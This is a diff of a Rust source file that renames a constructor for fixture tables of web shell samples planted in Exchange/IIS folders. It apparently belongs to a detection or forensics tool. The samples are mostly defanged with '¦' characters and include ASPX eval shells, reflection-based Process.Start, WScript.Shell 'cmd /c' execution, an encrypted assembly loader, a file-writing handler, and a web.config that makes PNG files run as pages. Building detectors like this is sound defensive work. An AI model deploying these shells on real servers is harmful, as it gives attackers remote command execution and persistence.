@@ -324,37 +324,37 @@ const AFTERMATH: Aftermath = Aftermath {
 };
 
 const ODD_CODE: [OddPage; 8] = [
-    odd(
+    OddPage::new(
         OWA_AUTH,
         "expire.aspx",
         "JScript with escapes of Unicode",
         "<%@ Page Language=\"Jscript\"%><%var a=Req¦uest.Item[\"p9\"];\\u0065v\\u0061l(a,\"un\"+\"sa\"+\"fe\");%>",
     ),
-    odd(
+    OddPage::new(
         ASPNET,
         "frame.aspx",
         "C# that starts processes by reflection over split names",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s,EventArgs e){var t=Type.GetType(\"System.Diag\"+\"nostics.Pro\"+\"cess, System\");var m=t.GetMethod(\"St\"+\"art\",new[]{typeof(string),typeof(string)});Response.Write(m.Invoke(null,new object[]{Req¦uest[\"f\"],Req¦uest[\"a\"]}));}</script>",
     ),
-    odd(
+    OddPage::new(
         ASPNET,
         "legacy.aspx",
         "VB over a COM object by a split name",
         "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load()\r\nDim o=CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\nResponse.Write(o.Ex¦ec(\"cmd /c \" & Req¦uest(\"k\")).StdOut.ReadAll())\r\nEnd Sub</script>",
     ),
-    odd(
+    OddPage::new(
         SYSTEM_WEB,
         "loader.aspx",
         "C# that loads an assembly out of the request",
         "<%@ Page Language=\"C#\" %><%var k=Encoding.Default.GetBytes(\"e45e329feb5d925b\");var r=Req¦uest.BinaryRead(Req¦uest.ContentLength);System.Reflection.Assem¦bly.Lo¦ad(new System.Security.Cryptography.Rijndael¦Managed().CreateDecryptor(k,k).TransformFinalBlock(r,0,r.Length)).CreateInstance(\"U\").Equals(this);%>",
     ),
-    odd(
+    OddPage::new(
         OWA_AUTH,
         "report.ashx",
         "a handler that writes what it is sent to a file",
         "<%@ WebHandler Language=\"C#\" Class=\"R\" %>using System.IO;using System.Web;public class R:IHttpHandler{public void ProcessRequest(HttpContext c){File.Write¦AllBytes(c.Req¦uest[\"p\"],System.Convert.From¦Base64String(c.Req¦uest[\"d\"]));}public bool IsReusable{get{return true;}}}",
     ),
-    odd(
+    OddPage::new(
         ECP_AUTH,
         "Timeout.aspx",
         "eval by Invoke-Expression in a hosted shell",
@@ -362,14 +362,14 @@ const ODD_CODE: [OddPage; 8] = [
     ),
     OddPage {
         encoding: Encoding::Wide,
-        ..odd(
+        ..OddPage::new(
             ASPNET,
             "wide.aspx",
             "stored as UTF-16",
             "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"w\"],\"uns¦afe\");%>",
         )
     },
-    odd(
+    OddPage::new(
         ASPNET,
         "pad.aspx",
         "the script stands behind much blank space in a page that looks harmless",
@@ -381,22 +381,11 @@ const ODD_CODE: [OddPage; 8] = [
     ),
 ];
 
-const fn odd(place: Place, name: &'static str, how: &'static str, text: &'static str) -> OddPage {
-    OddPage {
-        page: Page { place, name },
-        text,
-        how,
-        technique: Technique::ShellFile,
-        dated: None,
-        encoding: Encoding::Plain,
-    }
-}
-
 const HARMLESS: &str =
     "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n<!--#include file=\"..\\scripts\\logo.gif\"-->\r\n";
 
 const ODD_PLACES: [OddPage; 6] = [
-    odd(
+    OddPage::new(
         OAB,
         "offline.aspx",
         "in the address book's folder",
@@ -404,15 +393,15 @@ const ODD_PLACES: [OddPage; 6] = [
     ),
     OddPage {
         dated: Some(Moment::day(2019, 6, 18).clock(4, 11, 2)),
-        ..odd(
+        ..OddPage::new(
             THEMES,
             "lgnexlogo.aspx",
             "back-dated to the day of the installation",
             "<%@ Page Language=\"C#\"%><%System.Diagnostics.Pro¦cess.St¦art(Req¦uest[\"c\"]);%>",
         )
     },
-    odd(OWA_AUTH, "layout.aspx", "a page that includes a picture", HARMLESS),
-    odd(
+    OddPage::new(OWA_AUTH, "layout.aspx", "a page that includes a picture", HARMLESS),
+    OddPage::new(
         Place {
             below: Below::Product,
             folder: "FrontEnd\\HttpProxy\\owa\\scripts",
@@ -425,14 +414,14 @@ const ODD_PLACES: [OddPage; 6] = [
     ),
     OddPage {
         technique: Technique::HandlerChange,
-        ..odd(
+        ..OddPage::new(
             Place { below: Below::Site, folder: "aspnet_client\\img", url: "/aspnet_client/img", protocol: None },
             "web.config",
             "pictures are run as pages in this folder",
             "<?xml version=\"1.0\"?><configuration><system.webServer><handlers><add name=\"png\" path=\"*.png\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers></system.webServer><system.web><compilation><buildProviders><add extension=\".png\" type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders></compilation></system.web></configuration>",
         )
     },
-    odd(
+    OddPage::new(
         BIN,
         "App_Web_3kq0zrx1.dll",
         "a compiled page in the site's own library folder",
